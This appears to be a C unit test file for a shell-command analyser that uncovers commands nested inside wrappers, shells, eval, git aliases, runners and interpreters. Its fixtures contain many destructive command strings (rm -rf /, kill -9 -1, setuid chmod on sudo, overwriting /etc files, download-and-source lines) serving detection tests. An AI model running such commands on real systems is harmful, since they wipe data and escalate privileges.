/* Wrappers, shells with -c, eval, interpreters and other commands that run
 * commands. */
#include "helpers.h"

static void test_privilege_wrappers(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok("sudo -u root -E rm -rf /");
	assert_cmd(a, "sudo -u root -E rm -rf /", NULL);
	assert_cmd(a, "rm -rf /", "sudo");
	shell_analysis_free(&a);

	a = analyze_ok("sudo --user=bob -- FOO=1 ls; sudo -l rm; sudo -e /etc/hosts");
	assert_cmd(a, "ls", "sudo");
	assert_no_cmd(a, "rm");
	assert_no_cmd(a, "/etc/hosts");
	shell_analysis_free(&a);

	a = analyze_ok("doas -u root rm x; echo 'rm -rf /' | sudo -s");
	assert_cmd(a, "rm x", "doas");
	const shell_cmd *c = get_cmd(&a, "sudo -s");
	assert_true(c->unresolved);
	shell_analysis_free(&a);
}

static void test_exec_wrappers(void **state)
{
	(void)state;
	struct {
		const char *text, *inner, *via;
	} cases[] = {
		{"env -i FOO=1 -u BAR rm -rf /", "rm -rf /", "env"},
		{"env -C /tmp --unset=X rm a", "rm a", "env"},
		{"env -S 'rm -rf /tmp/x' y", "rm -rf /tmp/x y", "env -S"},
		{"env --split-string='A=1 rm b'", "rm b", "env -S"},
		{"command -p rm c", "rm c", "command"},
		{"builtin eval 'rm d'", "rm d", "eval"},
		{"exec -a name rm e", "rm e", "exec"},
		{"nice -n 10 rm f", "rm f", "nice"},
		{"nice -5 rm f2", "rm f2", "nice"},
		{"nohup rm g", "rm g", "nohup"},
		{"/usr/bin/time -p -o out rm h", "rm h", "time"},
		{"timeout -s KILL -k 5 10s rm i", "rm i", "timeout"},
		{"timeout --signal=TERM 1m rm i2", "rm i2", "timeout"},
		{"setsid -f rm j", "rm j", "setsid"},
		{"stdbuf -oL -e 0 rm k", "rm k", "stdbuf"},
		{"ionice -c 3 -n7 rm l", "rm l", "ionice"},
		{"flock -w 5 /tmp/lock rm m", "rm m", "flock"},
		{"flock /tmp/lock -c 'rm n'", "rm n", "flock -c"},
		{"chroot --userspec=1:1 /srv rm o", "rm o", "chroot"},
		{"busybox rm p", "rm p", "busybox"},
		{"xargs -0 -n 1 -I{} rm {}", "rm {} …", "xargs"},
		{"xargs", "echo …", "xargs"},
		{"watch -n 1 rm q '&&' ls", "rm q", "watch"},
		{"watch -x rm r", "rm r", "watch"},
		{"strace -f -o log rm s", "rm s", "strace"},
		{"taskset -c 1 rm t", "rm t", "taskset"},
		{"unshare -rm rm u", "rm u", "unshare"},
		{"sudo env nice -n 1 timeout 5 rm v", "rm v", "timeout"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		shell_analysis a = analyze_ok(cases[i].text);
		assert_true(a.ncmds >= 2);
		assert_null(a.cmds[0].via);
		assert_cmd(a, cases[i].inner, cases[i].via);
		shell_analysis_free(&a);
	}
	/* xargs marks the unknown arguments */
	shell_analysis a = analyze_ok("find . | xargs rm");
	const shell_cmd *c = get_cmd_via(&a, "rm …", "xargs");
	assert_true(c->word_unresolved[1]);
	assert_false(c->unresolved);
	shell_analysis_free(&a);
	/* command -v only looks up */
	a = analyze_ok("command -v rm");
	assert_int_equal(a.ncmds, 1);
	shell_analysis_free(&a);
}

static void test_find(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok(
		"find / -name '*.tmp' -exec rm -f {} \\; -o -execdir sh -c 'rm \"$1\"' _ {} + -delete");
	assert_cmd(a, "rm -f {}", "find -exec");
	assert_cmd(a, "sh -c rm \"$1\" _ {}", "find -execdir");
	assert_cmd(a, "rm $1", "sh -c");
	const shell_cmd *f = &a.cmds[0];
	assert_string_equal(f->argv[0], "find");
	assert_string_equal(f->argv[f->argc - 1], "-delete");
	shell_analysis_free(&a);

	a = analyze_ok("find . -ok rm {} ';' -okdir mv {} x \\;");
	assert_cmd(a, "rm {}", "find -ok");
	assert_cmd(a, "mv {} x", "find -okdir");
	shell_analysis_free(&a);
}

static void test_shells(void **state)
{
	(void)state;
	const char *shells[] = {"sh", "bash", "zsh", "dash", "ksh", "/bin/sh"};
	for (size_t i = 0; i < ARRAY_SIZE(shells); i++) {
		char buf[128], via[32];
		snprintf(buf, sizeof(buf), "%s -c 'rm -rf /; ls' arg0", shells[i]);
		shell_analysis a = analyze_ok(buf);
		const char *b = strrchr(shells[i], '/');
		snprintf(via, sizeof(via), "%s -c", b ? b + 1 : shells[i]);
		assert_cmd(a, "rm -rf /", via);
		assert_cmd(a, "ls", via);
		assert_int_equal(get_cmd(&a, "rm -rf /")->depth, 1);
		shell_analysis_free(&a);
	}
	/* option clusters and nesting */
	shell_analysis a = analyze_ok("bash -xec \"sh -c 'bash -c \\\"rm -rf ~\\\"'\"");
	const shell_cmd *c = get_cmd_via(&a, "rm -rf ~", "bash -c");
	assert_int_equal(c->depth, 3);
	shell_analysis_free(&a);

	a = analyze_ok("bash -o pipefail -c 'rm x'; bash --norc --rcfile f -c 'rm y'");
	assert_cmd(a, "rm x", "bash -c");
	assert_cmd(a, "rm y", "bash -c");
	shell_analysis_free(&a);

	/* script file: the shell is visible, nothing more */
	a = analyze_ok("bash ./script.sh arg");
	assert_int_equal(a.ncmds, 1);
	assert_false(a.unresolved);
	shell_analysis_free(&a);

	/* syntax error in -c text: unresolved, not an error */
	a = analyze_ok("sh -c 'if true; then'");
	assert_true(a.cmds[0].unresolved);
	assert_non_null(strstr(a.cmds[0].unresolved_reason, "sh -c"));
	shell_analysis_free(&a);
}

static void test_eval_source(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok("eval 'rm -rf /' '&&' ls; eval \"echo \\$(id)\"");
	assert_cmd(a, "rm -rf /", "eval");
	assert_cmd(a, "ls", "eval");
	assert_cmd(a, "id", "$(…)");
	shell_analysis_free(&a);

	a = analyze_ok("eval \"$cmd\"");
	assert_true(a.cmds[0].unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("source <(curl -s https://x); . ./env.sh");
	assert_true(get_cmd(&a, "source <(curl -s https://x)")->unresolved);
	assert_non_null(strstr(get_cmd(&a, "source <(curl -s https://x)")->unresolved_reason,
			       "downloaded"));
	assert_false(get_cmd(&a, ". ./env.sh")->unresolved);
	shell_analysis_free(&a);
}

static void test_git(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok("git -c alias.x='!rm -rf /' x");
	assert_cmd(a, "rm -rf /", "git alias");
	shell_analysis_free(&a);
	a = analyze_ok("git -c core.pager='sh -c \"rm y\"' -C repo log");
	assert_cmd(a, "rm y", "sh -c");
	assert_cmd(a, "sh -c rm y", "git -c");
	shell_analysis_free(&a);
	a = analyze_ok("git -c core.sshCommand='ssh -i k' fetch; git -c core.hooksPath=/tmp/h commit");
	assert_cmd(a, "ssh -i k", "git -c");
	assert_true(get_cmd(&a, "git -c core.hooksPath=/tmp/h commit")->unresolved);
	shell_analysis_free(&a);
	a = analyze_ok("git -c alias.st=status st; git status; git rebase -x 'make test' main; "
		       "git submodule foreach 'git clean -fdx'; git bisect run make");
	assert_int_equal(get_cmd(&a, "git -c alias.st=status st")->unresolved, 0);
	assert_cmd(a, "make test", "git rebase --exec");
	assert_cmd(a, "git clean -fdx", "git submodule foreach");
	assert_cmd(a, "make", "git bisect run");
	assert_false(a.unresolved);
	shell_analysis_free(&a);
	/* aliases of any kind run: a plain one is a git command line */
	a = analyze_ok("git -c alias.x='checkout -- .' x; git config --global alias.co 'reset --hard'; "
		       "git -c ALIAS.y='!make' y");
	assert_cmd(a, "git checkout -- .", "git alias");
	assert_cmd(a, "git reset --hard", "git config");
	assert_cmd(a, "make", "git alias");
	shell_analysis_free(&a);
	/* settings naming a command, set with git config, and options of
	 * subcommands whose value is a command */
	a = analyze_ok("git config core.pager 'less -R'; git difftool -y -x 'rm -f' HEAD; "
		       "git difftool --extcmd=meld; git filter-branch --tree-filter 'rm x' HEAD");
	assert_cmd(a, "less -R", "git config");
	assert_cmd(a, "rm -f $LOCAL $REMOTE", "git difftool -x");
	assert_cmd(a, "meld $LOCAL $REMOTE", "git difftool -x");
	assert_cmd(a, "rm x", "git filter-branch --tree-filter");
	shell_analysis_free(&a);
	/* a dynamic value is unresolved; other settings are plain data */
	a = analyze_ok("git config alias.x \"$A\"");
	assert_true(a.cmds[0].unresolved);
	shell_analysis_free(&a);
	a = analyze_ok("git config --global --add safe.directory \"$W\"; git config user.name x");
	assert_false(a.cmds[0].unresolved);
	assert_int_equal(a.ncmds, 2);
	shell_analysis_free(&a);
}

/* Each line runs `rm -rf ~` through a runner's own syntax. */
static void test_runners(void **state)
{
	(void)state;
	static const struct {
		const char *text, *via;
	} t[] = {
		{"tmux new-session -d 'rm -rf ~'", "tmux"},
		{"tmux -L x split-window -h rm -rf ~", "tmux"},
		{"screen -dmS job rm -rf ~", "screen"},
		{"parallel rm -rf ::: ~", "xargs"},
		{"expect -c 'spawn rm -rf ~; expect eof'", "expect spawn"},
		{"vim -c '!rm -rf ~' -c q", "vim !"},
		{"vi '+silent !rm -rf ~' x", "vim !"},
		{"man -P 'rm -rf ~' ls", "man -P"},
		{"rsync -e 'rm -rf ~' a b:", "rsync -e"},
		{"zip -TT 'rm -rf ~' a.zip x", "zip -TT"},
		{"make --eval='all:; rm -rf ~'", "make --eval"},
		{"make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", "make -f -"},
		{"ssh host 'rm -rf ~'", "ssh"},
		{"ssh -o ProxyCommand='rm -rf ~' host", "ssh -o"},
		{"docker exec -u root c rm -rf ~", "container exec"},
		{"kubectl exec pod -c app -- rm -rf ~", "kubectl exec"},
		{"setpriv --reuid=0 rm -rf ~", "setpriv"},
		{"sg root -c 'rm -rf ~'", "sg"},
		{"start-stop-daemon --start --exec /bin/rm -- -rf ~", "start-stop-daemon"},
		{"trap 'rm -rf ~' EXIT", "trap"},
		{"GIT_EDITOR='rm -rf ~' git commit", "GIT_EDITOR="},
		{"env VISUAL='rm -rf ~' crontab -e", "VISUAL="},
		{"export GIT_SSH_COMMAND='rm -rf ~'; git fetch", "GIT_SSH_COMMAND="},
		{"LESSOPEN='|rm -rf ~ %s' less x", "LESSOPEN="},
		{"PAGER='rm -rf ~' git log", "PAGER="},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
		shell_analysis a = analyze_ok(t[i].text);
		if (!find_cmd_via(&a, "rm -rf ~", t[i].via) && !find_cmd_via(&a, "rm -rf ~ %s", t[i].via) &&
		    !find_cmd_via(&a, "/bin/rm -rf ~", t[i].via)) {
			dump(&a);
			fail_msg("%s: no rm -rf ~ via %s", t[i].text, t[i].via);
		}
		shell_analysis_free(&a);
	}
	/* near misses: ordinary uses run nothing else, and stay resolved */
	static const char *const plain[] = {"tmux new -s dev", "ssh -p 2222 host", "vim -c wq x",
					    "make -j4 test", "GIT_EDITOR=true git commit",
					    "docker exec -it c bash", "trap - EXIT"};
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
		shell_analysis a = analyze_ok(plain[i]);
		assert_false(a.unresolved);
		shell_analysis_free(&a);
	}
	/* a command-naming variable that is not static */
	shell_analysis a = analyze_ok("GIT_EDITOR=$E git commit");
	assert_true(a.cmds[0].unresolved);
	shell_analysis_free(&a);
}

/* Options that move where a command (or what it runs) works. */
static void test_chdir_options(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok("env -C /usr rm -rf lib; sudo -D /etc rm x; git -C .. clean -fdx; "
				      "tar -xf a.tar --directory=/opt; env -C a env -C b ls; "
				      "env -C \"$D\" rm y; rm z");
	assert_string_equal(get_cmd(&a, "rm -rf lib")->cwd, "/usr");
	assert_string_equal(get_cmd(&a, "rm x")->cwd, "/etc");
	assert_string_equal(get_cmd(&a, "git -C .. clean -fdx")->cwd, "..");
	assert_string_equal(get_cmd(&a, "tar -xf a.tar --directory=/opt")->cwd, "/opt");
	assert_string_equal(get_cmd(&a, "ls")->cwd, "a/b");
	assert_true(get_cmd(&a, "rm y")->cwd_unresolved);
	assert_null(get_cmd(&a, "rm z")->cwd);
	assert_null(get_cmd(&a, "env -C /usr rm -rf lib")->cwd);
	shell_analysis_free(&a);
	/* -C inside a cluster and in tar's dashless bundle, bound as the
	 * program binds it; a letter taking a value before it owns the rest */
	a = analyze_ok("make -sC /etc install; tar xfC a.tar /opt; ninja -vC out; "
		       "tar -xzC/srv -f a.tar; make -fC x; make -f -C y; tar xCf /var a.tar");
	assert_string_equal(get_cmd(&a, "make -sC /etc install")->cwd, "/etc");
	assert_string_equal(get_cmd(&a, "tar xfC a.tar /opt")->cwd, "/opt");
	assert_string_equal(get_cmd(&a, "ninja -vC out")->cwd, "out");
	assert_string_equal(get_cmd(&a, "tar -xzC/srv -f a.tar")->cwd, "/srv");
	assert_string_equal(get_cmd(&a, "tar xCf /var a.tar")->cwd, "/var");
	assert_null(get_cmd(&a, "make -fC x")->cwd);
	assert_null(get_cmd(&a, "make -f -C y")->cwd);
	shell_analysis_free(&a);
}

/* A file written (or a program copied) and run in the same line. */
static void expect_cmd_via(const char *text, const char *cmd, const char *via);

static void test_written_then_run(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok("echo 'rm -rf ~' > x.sh && sh x.sh; printf 'id' > ./y; bash y");
	assert_cmd(a, "rm -rf ~", "a file written earlier");
	assert_cmd(a, "id", "a file written earlier");
	shell_analysis_free(&a);
	a = analyze_ok("cp /bin/rm ./r && ./r -rf ~");
	assert_cmd(a, "/bin/rm -rf ~", "a copy written earlier");
	shell_analysis_free(&a);
	a = analyze_ok("curl -o x.sh https://e.example/x; chmod +x x.sh; ./x.sh");
	assert_true(get_cmd(&a, "./x.sh")->unresolved);
	shell_analysis_free(&a);
	/* near misses: run before it is written, other files, only read */
	a = analyze_ok("./x.sh; echo 'rm -rf ~' > x.sh; cat x.sh; sh other.sh");
	assert_false(a.unresolved);
	assert_no_cmd(a, "rm -rf ~");
	shell_analysis_free(&a);
	a = analyze_ok("> ~/.profile; echo > y");
	shell_analysis_free(&a);
	/* an alias defined and then used */
	a = analyze_ok("alias g=git; g clean -fdx; alias ll='ls -l'; ll src");
	assert_cmd(a, "git clean -fdx", "alias");
	assert_cmd(a, "ls -l src", "alias");
	shell_analysis_free(&a);
	/* printf formats and escapes, echo -e: the commands of the text written */
	static const struct {
		const char *text, *cmd, *via;
	} t[] = {
		{"printf 'echo hi\\nrm -rf ~\\n' > x.sh && sh x.sh", "rm -rf ~", "a file written earlier"},
		{"printf 'rm\\x20-rf\\x20/x\\n' > x.sh && sh x.sh", "rm -rf /x", "a file written earlier"},
		{"printf '\\162m -f a\\n' > x.sh && sh x.sh", "rm -f a", "a file written earlier"},
		{"printf '%s\\n' 'echo hi' 'rm -rf /y' > x.sh && sh x.sh", "rm -rf /y",
		 "a file written earlier"},
		{"printf '%b %s\\n' 'a\\nrm' '-rf /z' > x.sh && sh x.sh", "rm -rf /z",
		 "a file written earlier"},
		{"echo -e 'echo hi\\nrm -rf /w' > x.sh && sh x.sh", "rm -rf /w", "a file written earlier"},
		{"echo -en 'ls\\tsrc\\ncat -v f' > x.sh && sh x.sh", "cat -v f", "a file written earlier"},
		{"echo 'echo hi\\nid -u' > x.sh && sh x.sh", "id -u", "a file written earlier"},
		{"echo 'id -g' > x; sh < x", "id -g", "a file written earlier"},
		{"echo 'id -n' > x; eval \"$(cat x)\"", "id -n", "a file written earlier"},
		{"echo 'a b' > x; xargs -a x ls -l", "ls -l a b", "xargs -a"},
		{"printf 'x:\\n\\t@id -r\\n' > Makefile; make x", "id -r", "Makefile written earlier"},
		{"npm pkg set scripts.t='id -z' && npm run t", "id -z", "package.json written earlier"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++)
		expect_cmd_via(t[i].text, t[i].cmd, t[i].via);
	/* \c ends echo -e's output; what follows is never written */
	a = analyze_ok("echo -e 'id\\c; rm -rf /v' > x.sh && sh x.sh");
	assert_no_cmd(a, "rm -rf /v");
	shell_analysis_free(&a);
}

/* Interpreter calls beyond commands and deletions, and imports under
 * another name. */
static void test_interp_calls(void **state)
{
	(void)state;
	static const struct {
		const char *text, *cmd;
	} t[] = {
		{"python3 -c 'import os; os.kill(-1, 9)'", "kill -9 -1"},
		{"python3 -c 'import pathlib; pathlib.Path(\"/etc/passwd\").unlink()'", "rm /etc/passwd"},
		{"python3 -c 'from pathlib import Path; Path(\"/etc/x\").write_text(\"y\")'", "tee /etc/x"},
		{"python3 -c 'import os; os.rename(\"/etc/passwd\", \"x\")'", "mv /etc/passwd"},
		{"python3 -c 'import os; os.chmod(\"/usr/bin/sudo\", 0o4777)'", "chmod /usr/bin/sudo"},
		{"python3 -c 'open(\"/etc/cron.d/x\", \"w\").write(\"y\")'", "tee /etc/cron.d/x"},
		{"python3 -c 'from shutil import rmtree as r; r(\"/home\")'", "rm -rf /home"},
		{"python3 -c 'import os as o; o.system(\"id\")'", "id"},
		{"node -e 'process.kill(-1)'", "kill -9 -1"},
		{"node -e 'require(\"fs\").writeFileSync(\"/etc/x\", \"y\")'", "tee /etc/x"},
		{"lua -e 'os.execute(\"id\")'", "id"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
		shell_analysis a = analyze_ok(t[i].text);
		if (!find_cmd(&a, t[i].cmd)) {
			dump(&a);
			fail_msg("%s: no command '%s'", t[i].text, t[i].cmd);
		}
		shell_analysis_free(&a);
	}
	/* reading, computed paths and ordinary aliases stay plain */
	static const char *const plain[] = {
		"python3 -c 'print(open(\"/etc/os-release\").read())'",
		"python3 -c 'import sys, json; json.load(open(sys.argv[1]))' x.json",
		"python3 -c 'import numpy as np; print(np.zeros(3))'",
		"python3 -c 'import os; os.rename(src, dst)'", "python3 -c 'p.kill()'"};
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
		shell_analysis a = analyze_ok(plain[i]);
		if (a.ncmds != 1 || a.unresolved) {
			dump(&a);
			fail_msg("%s: expected one resolved command", plain[i]);
		}
		shell_analysis_free(&a);
	}
}

static void test_awk_tar(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok(
		"awk -F: 'BEGIN { system(\"rm -rf /tmp/a\") } { print $1 | \"sort -u\"; \"date\" | getline d }' f");
	assert_cmd(a, "rm -rf /tmp/a", "awk");
	assert_cmd(a, "sort -u", "awk");
	assert_cmd(a, "date", "awk");
	assert_false(a.cmds[0].unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("gawk '{ system($0) }'; mawk '{ print | cmd }'; awk -f prog.awk x");
	assert_true(get_cmd(&a, "gawk { system($0) }")->unresolved);
	assert_true(get_cmd(&a, "mawk { print | cmd }")->unresolved);
	assert_false(get_cmd(&a, "awk -f prog.awk x")->unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("awk '{ print $1 }' f; awk 'BEGIN { if (a || b) print 1 }'");
	assert_false(a.unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' -cf x.tar d; "
		       "tar xf a.tar --to-command='sh -c \"cat\"'; tar -I 'zstd -d' -xf b; "
		       "tar --use-compress-program=pigz -cf c d");
	assert_cmd(a, "rm -rf /", "tar");
	assert_cmd(a, "cat", "sh -c");
	assert_cmd(a, "zstd -d", "tar");
	assert_cmd(a, "pigz", "tar");
	shell_analysis_free(&a);
}

static void test_interpreters(void **state)
{
	(void)state;
	shell_analysis a = analyze_ok(
		"python3 -c 'import os, shutil, subprocess; os.system(\"rm -rf /a\"); "
		"shutil.rmtree(\"/b\"); subprocess.run([\"rm\", \"-rf\", \"/c\"]); "
		"subprocess.call(\"ls /d\", shell=True); os.remove(\"/e\"); print(platform.system())'");
	const shell_cmd *py = &a.cmds[0];
	assert_string_equal(py->argv[0], "python3");
	assert_false(py->unresolved);
	assert_cmd(a, "rm -rf /a", "python3 -c");
	assert_cmd(a, "rm -rf /b", "python3 -c");
	assert_cmd(a, "rm -rf /c", "python3 -c");
	assert_cmd(a, "ls /d", "python3 -c");
	assert_cmd(a, "rm /e", "python3 -c");
	shell_analysis_free(&a);

	a = analyze_ok("python -c 'import os; os.system(cmd)'; python -m http.server");
	assert_true(a.cmds[0].unresolved);
	assert_false(get_cmd(&a, "python -m http.server")->unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("perl -e 'system(\"rm\", \"-rf\", \"/x\"); `id`; unlink \"f\"; qx{ls}' -ne 'print'");
	assert_cmd(a, "rm -rf /x", "perl -e");
	assert_cmd(a, "id", "perl -e");
	assert_cmd(a, "rm f", "perl -e");
	assert_cmd(a, "ls", "perl -e");
	shell_analysis_free(&a);

	a = analyze_ok("perl -pi -e 's/a/b/' f; perl -e 'system \"rm $x\"'");
	assert_false(get_cmd(&a, "perl -pi -e s/a/b/ f")->unresolved);
	assert_true(get_cmd(&a, "perl -e system \"rm $x\"")->unresolved);
	shell_analysis_free(&a);

	a = analyze_ok("ruby -e 'FileUtils.rm_rf(\"/r\"); system \"ls\"; %x(id)'");
	assert_cmd(a, "rm -rf /r", "ruby -e");
	assert_cmd(a, "ls", "ruby -e");
	assert_cmd(a, "id", "ruby -e");
	shell_analysis_free(&a);

	a = analyze_ok("node -e 'require(\"child_process\").execSync(\"rm -rf /n\"); "
		       "cp.spawnSync(\"rm\", [\"-r\", \"/m\"])'; node --eval='fs.rmSync(\"/o\")'");
	assert_cmd(a, "rm -rf /n", "node -e");
	assert_cmd(a, "rm -r /m", "node -e");
	assert_cmd(a, "rm -rf /o", "node --eval");
	shell_analysis_free(&a);

	a = analyze_ok("php -r 'system(\"rm -rf /p\"); echo `id`;'");
	assert_cmd(a, "rm -rf /p", "php -r");
	assert_cmd(a, "id", "php -r");
	shell_analysis_free(&a);

	/* heredoc fed to an interpreter */
	a = analyze_ok("python3 <<EOF\nimport os\nos.system('rm -rf /h')\nEOF");
	assert_cmd(a, "rm -rf /h", "python3 <<");
	shell_analysis_free(&a);
}

static void test_argv_api(void **state)
{
	(void)state;
	const char *argv[] = {"sudo", "bash", "-c", "rm -rf / && echo $(id)"};
	shell_analysis a;
	txbox_error err = TXBOX_ERROR_INIT;
	assert_int_equal(shell_analyze_argv(argv, 4, NULL, &a, &err), 0);
	assert_cmd(a, "sudo bash -c rm -rf / && echo $(id)", NULL);
	assert_cmd(a, "bash -c rm -rf / && echo $(id)", "sudo");
	assert_cmd(a, "rm -rf /", "bash -c");
	assert_cmd(a, "id", "$(…)");
	shell_analysis_free(&a);

	/* argv words are literal: no expansion */
	const char *argv2[] = {"rm", "$HOME", "*"};
	assert_int_equal(shell_analyze_argv(argv2, 3, NULL, &a, &err), 0);
	assert_string_equal(a.cmds[0].argv[1], "$HOME");
	assert_false(a.unresolved);
	shell_analysis_free(&a);
}

/* Round 2: option clusters ending in -c, gdb commands, dynamic Python
 * imports, and a command name that is a pathname pattern. */
static void test_round2_runners(void **state)
{
	(void)state;
	static const struct {
		const char *text, *cmd;
	} t[] = {
		{"script -qc 'rm -rf ~' /dev/null", "rm -rf ~"},
		{"script -q -c 'rm -rf ~'", "rm -rf ~"},
		{"su -lc 'id -u' nobody", "id -u"},
		{"gdb -batch -ex 'shell rm -rf ~'", "rm -rf ~"},
		{"gdb -ex '!touch /etc/x'", "touch /etc/x"},
		{"gdb --eval-command='shell id'", "id"},
		{"python -c \"__import__('subprocess').call(['rm','-rf','/etc'])\"", "rm -rf /etc"},
		{"python3 -c \"import importlib; importlib.import_module('os').system('id')\"", "id"},
		{"sed -n '1e rm -rf ~' /dev/null", "rm -rf ~"},
		{"sed -e 'p;/x/ e touch /etc/x' f", "touch /etc/x"},
		{"sed --expression='$!e id' f", "id"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
		shell_analysis a = analyze_ok(t[i].text);
		if (!find_cmd(&a, t[i].cmd)) {
			dump(&a);
			fail_msg("%s: no command '%s'", t[i].text, t[i].cmd);
		}
		shell_analysis_free(&a);
	}
	/* -s takes a value: "c" is the shell, not the command option */
	shell_analysis a = analyze_ok("su -sc x");
	assert_no_cmd(a, "x");
	shell_analysis_free(&a);
	static const char *const unres[] = {"/\?\?\?/b\?\?/r\? -rf ~", "./bin/r* x", "/usr/bin/[r]m x",
					    "gdb -ex \"$CMD\"", "sed 's/x/rm -rf ~/e' f", "sed '/^#/d;e' f",
					    "sed -n \"$SCRIPT\" f", "sed ':a;N;$!ba;s/x/id/e' f", "make -f <(printf 'x:\\n\\trm -rf ~\\n') x"};
	for (size_t i = 0; i < ARRAY_SIZE(unres); i++) {
		a = analyze_ok(unres[i]);
		if (!a.unresolved)
			fail_msg("%s: not unresolved", unres[i]);
		shell_analysis_free(&a);
	}
	/* a variable in a replacement: the command itself stays resolved */
	a = analyze_ok("sed \"s/v=.*/v=$V/\" f");
	assert_false(a.cmds[0].unresolved);
	shell_analysis_free(&a);
	static const char *const plain[] = {"[ -f x ]", "\"./a*b\" x", "ls *.c", "gdb -batch -ex run -ex bt ./a.out",
					    "script -q log.txt", "python3 -c \"print(__import__('sys').version)\"",
					    "sed -i 's/foo/bar/g' x", "sed -n '/start/,/end/p' f", "sed 's|a|e|;s/e/f/' f",
					    "sed -e '$a end' -e 'y/abc/xyz/' f", "sed -f e.sed f",
					    "sed 's/a/b/w e.txt' f", "sed ':a;N;$!ba;s/\\n/ /g' f", "sed -n '/x/{p;q}' f"};
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
		a = analyze_ok(plain[i]);
		if (a.unresolved) {
			dump(&a);
			fail_msg("%s: unresolved", plain[i]);
		}
		shell_analysis_free(&a);
	}
}

/* text runs cmd (joined argv), reached via via (see find_cmd_via). */
static void expect_cmd_via(const char *text, const char *cmd, const char *via)
{
	shell_analysis a = analyze_ok(text);
	if (!find_cmd_via(&a, cmd, via)) {
		dump(&a);
		fail_msg("%s: no '%s' via %s", text, cmd, via);
	}
	shell_analysis_free(&a);
}

/* rt5: runners that run the command given as their arguments, in their
 * own option or as shell text (the runner table of runners.c). */
static void test_runner_table(void **state)
{
	(void)state;
	static const struct {
		const char *text, *cmd, *via;
	} t[] = {
		{"coreutils --coreutils-prog=rm -rf ~", "rm -rf ~", "coreutils --coreutils-prog"},
		{"fd -e tmp -x rm -rf ~", "rm -rf ~ \u2026", "fd -x"},
		{"fd --exec rm -rf ~ ';' -H", "rm -rf ~ \u2026", "fd --exec"},
		{"fd -e c -X rm -rf ~", "rm -rf ~ \u2026", "fd -X"},
		{"fdfind --exec-batch rm -rf ~", "rm -rf ~ \u2026", "fdfind --exec-batch"},
		{"/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~", "/bin/rm -rf ~", "ld-linux-x86-64.so.2"},
		{"/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /tmp /bin/rm -rf ~",
		 "/bin/rm -rf ~", "ld-linux-x86-64.so.2"},
		{"ld.so --argv0 x /bin/rm -rf ~", "/bin/rm -rf ~", "ld.so"},
		{"uv run rm -rf ~", "rm -rf ~", "uv"},
		{"uv --directory sub run --with requests -p 3.12 rm -rf ~", "rm -rf ~", "uv"},
		{"uv run --group dev -- rm -rf ~", "rm -rf ~", "uv"},
		{"poetry -C sub run rm -rf ~", "rm -rf ~", "poetry"},
		{"pipenv run rm -rf ~", "rm -rf ~", "pipenv"},
		{"pdm run rm -rf ~", "rm -rf ~", "pdm"},
		{"hatch run rm -rf ~", "rm -rf ~", "hatch"},
		{"pixi run 'rm -rf ~'", "rm -rf ~", "pixi"},
		{"pnpm --filter app exec rm -rf ~", "rm -rf ~", "pnpm"},
		{"pnpm exec -c 'rm -rf ~'", "rm -rf ~", "pnpm"},
		{"npx rm -rf ~", "rm -rf ~", "npx"},
		{"npm exec -c 'rm -rf ~'", "rm -rf ~", "npm -c"},
		{"yarn exec rm -rf ~", "rm -rf ~", "yarn"},
		{"bundle exec --gemfile=G rm -rf ~", "rm -rf ~", "bundle"},
		{"conda run -n base --no-capture-output rm -rf ~", "rm -rf ~", "conda"},
		{"mamba run -p /opt/env rm -rf ~", "rm -rf ~", "mamba"},
		{"micromamba run -n base rm -rf ~", "rm -rf ~", "micromamba"},
		{"mise exec -- rm -rf ~", "rm -rf ~", "mise"},
		{"mise x node@20 python@3 -- rm -rf ~", "rm -rf ~", "mise"},
		{"mise exec -c 'rm -rf ~'", "rm -rf ~", "mise -c"},
		{"asdf exec rm -rf ~", "rm -rf ~", "asdf"},
		{"direnv exec . rm -rf ~", "rm -rf ~", "direnv"},
		{"nix-shell --run 'rm -rf ~'", "rm -rf ~", "nix-shell --run"},
		{"nix-shell -p hello --command 'rm -rf ~'", "rm -rf ~", "nix-shell --command"},
		{"nix develop -c rm -rf ~", "rm -rf ~", "nix -c"},
		{"nix develop .#ci --command rm -rf ~", "rm -rf ~", "nix --command"},
		{"nix shell nixpkgs#hello -c rm -rf ~", "rm -rf ~", "nix -c"},
		{"gosu root rm -rf ~", "rm -rf ~", "gosu"},
		{"su-exec root rm -rf ~", "rm -rf ~", "su-exec"},
		{"s6-setuidgid nobody rm -rf ~", "rm -rf ~", "s6-setuidgid"},
		{"chpst -u nobody rm -rf ~", "rm -rf ~", "chpst"},
		{"tini -- rm -rf ~", "rm -rf ~", "tini"},
		{"tini -s -g -p SIGKILL rm -rf ~", "rm -rf ~", "tini"},
		{"dumb-init --rewrite 15:2 rm -rf ~", "rm -rf ~", "dumb-init"},
		{"catatonit -- rm -rf ~", "rm -rf ~", "catatonit"},
		{"eatmydata rm -rf ~", "rm -rf ~", "eatmydata"},
		{"nocache -n 2 rm -rf ~", "rm -rf ~", "nocache"},
		{"catchsegv rm -rf ~", "rm -rf ~", "catchsegv"},
		{"setarch x86_64 -R rm -rf ~", "rm -rf ~", "setarch"},
		{"setarch -R linux32 rm -rf ~", "rm -rf ~", "setarch"},
		{"linux64 rm -rf ~", "rm -rf ~", "linux64"},
		{"i386 -R rm -rf ~", "rm -rf ~", "i386"},
